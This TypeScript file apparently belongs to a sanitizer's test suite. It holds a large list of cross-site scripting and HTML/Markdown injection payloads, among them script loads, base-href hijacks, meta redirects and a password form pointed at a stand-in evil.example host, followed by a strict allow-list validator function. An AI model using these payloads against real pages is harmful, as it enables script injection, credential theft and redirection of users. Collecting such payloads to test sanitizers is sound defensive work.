/** Attempts to smuggle scripts, styles or forms into a page, as they are known from practice. */
export const payloads: string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script/x>alert(1)</script >',
  '<<script>alert(1);//<</script>',
  '<script>alert(1)',
  '</script><script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="alert(1)"//',
  '<img/src/onerror=alert(1)>',
  '<img src=`x` onerror=alert(1)>',
  '<img """><script>alert(1)</script>">',
  '<img src=javascript:alert(1)>',
  '<img srcset="x 1x" onload=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<math href="javascript:alert(1)">x</math>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="java&#x0A;script:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="&#x6A&#x61vascript:alert(1)">x</a>',
  '<a href="javascript&colon;alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="//evil.example/">x</a>',
  '<a href="/\\evil.example/">x</a>',
  '<a href="https://x.example/" onclick="alert(1)">x</a>',
  '<a href="https://x.example/" target="_blank" style="position:fixed;inset:0">x</a>',
  '<a href=\'https://x.example/"onmouseover="alert(1)\'>x</a>',
  '<a href="https://x.example/?q=<script>alert(1)</script>">x</a>',
  '<a name="getElementById" id="body">x</a>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<applet code="x"></applet>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<style>@import "https://evil.example/x.css";</style>',
  '<style><!--</style><script>alert(1)//--></script>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<span class="kern-alert desk invisible" style="display:none">x</span>',
  '<div onmouseover="alert(1)">x</div>',
  '<body onload=alert(1)>',
  '<html><head><title></title><script>alert(1)</script></head></html>',
  '<input autofocus onfocus=alert(1)>',
  '<select autofocus onfocus=alert(1)><option>x',
  '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<form action="https://evil.example/"><input name=password></form>',
  '<details open ontoggle=alert(1)>x</details>',
  '<video><source onerror="alert(1)"></video>',
  '<audio src=x onerror=alert(1)></audio>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
  '<plaintext><img src=x onerror=alert(1)>',
  '<title><a title="</title><img src=x onerror=alert(1)>"></title>',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!-- --!><img src=x onerror=alert(1)>',
  '<?xml version="1.0"?><?import namespace="t"?><script>alert(1)</script>',
  '<!DOCTYPE html [<!ENTITY x "<script>alert(1)</script>">]>&x;',
  '<custom-element onclick=alert(1)>x</custom-element>',
  '<p/onclick=alert(1)>x',
  '<p \u0000onclick=alert(1)>x',
  '<\u0000script>alert(1)</script>',
  '<br onclick="alert(1)"/>',
  '<a href="https://x.example/"',
  '<p title="<img src=x onerror=alert(1)>">x',
  '"><img src=x onerror=alert(1)>',
  "'-alert(1)-'",
  '`onmouseover=alert(1)`',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;',
  '</p></div></main><h1>Stadtkasse</h1>',
  '[x](javascript:alert(1))',
  '[x](JAVASCRIPT:alert(1))',
  '[x](java\tscript:alert(1))',
  '[x](<javascript:alert(1)>)',
  '[x](&#106;avascript:alert(1))',
  '[x](data:text/html,<script>alert(1)</script>)',
  '[x](vbscript:msgbox(1))',
  '[x](//evil.example/)',
  '[x](/\\evil.example/)',
  '[x](https://x.example/ "onmouseover=alert(1) \\" onclick=alert(1)")',
  '[x]: javascript:alert(1)\n\n[x]',
  '<javascript:alert(1)>',
  '<https://x.example/"onmouseover="alert(1)>',
  '![x](javascript:alert(1))',
  '![x](https://evil.example/pixel.gif)',
  '![x](data:image/svg+xml;base64,PHN2Zy8+)',
  '![x" onerror="alert(1)](/media/a.webp)',
  '![x](/media/../login?next=x)',
  '![x](/media/a.webp"onerror="alert(1))',
  '```"><script>alert(1)</script>\nx\n```',
  '```js onclick="alert(1)"\n<script>alert(1)</script>\n```',
  '# <img src=x onerror=alert(1)>',
  '# x {#id onclick=alert(1)}',
  '| <script>alert(1)</script> |\n| --- |\n| <img src=x onerror=alert(1)> |',
  'https://x.example/"onmouseover="alert(1)',
  "https://x.example/'onmouseover='alert(1)",
  'https://x.example/<script>alert(1)</script>',
  'javascript://x.example/%0aalert(1)',
  'www.x.example/"><script>alert(1)</script>'
]

/** Which tags may appear, with the values their attributes may have. */
export type Grammar = Record<string, Record<string, RegExp>>

/**
 * Reads HTML by a grammar so narrow that what passes cannot run or disguise anything in any browser: only these tags and
 * attributes, all attributes in double quotes, all tags closed in order, no other `<`. Gives the first fault, or null.
 */
export function faultOf(html: string, grammar: Grammar): string | null {
  const open: string[] = []
  const tag = /<(\/?)([a-z][a-z0-9]*)((?: [a-z-]+="[^"<>]*")*)( \/)?>|</g
  for (const match of html.matchAll(tag)) {
    const [whole, closing, name, attributes = ''] = match
    if (whole === '<') return `a stray <: ${html.slice(match.index, match.index + 40)}`
    const allowed = Object.hasOwn(grammar, name) ? grammar[name] : undefined
    if (!allowed) return `tag ${name}`
    if (closing) {
      if (open.pop() !== name) return `closing ${name} out of order`
      continue
    }
    for (const [, key, value] of attributes.matchAll(/ ([a-z-]+)="([^"]*)"/g)) {
      const pattern = Object.hasOwn(allowed, key) ? allowed[key] : undefined
      if (!pattern?.test(value)) return `${name} ${key}="${value}"`
    }
    if (!['br', 'img', 'hr'].includes(name)) open.push(name)
  }
  return open.length ? `not closed: ${open.join(' ')}` : null
}
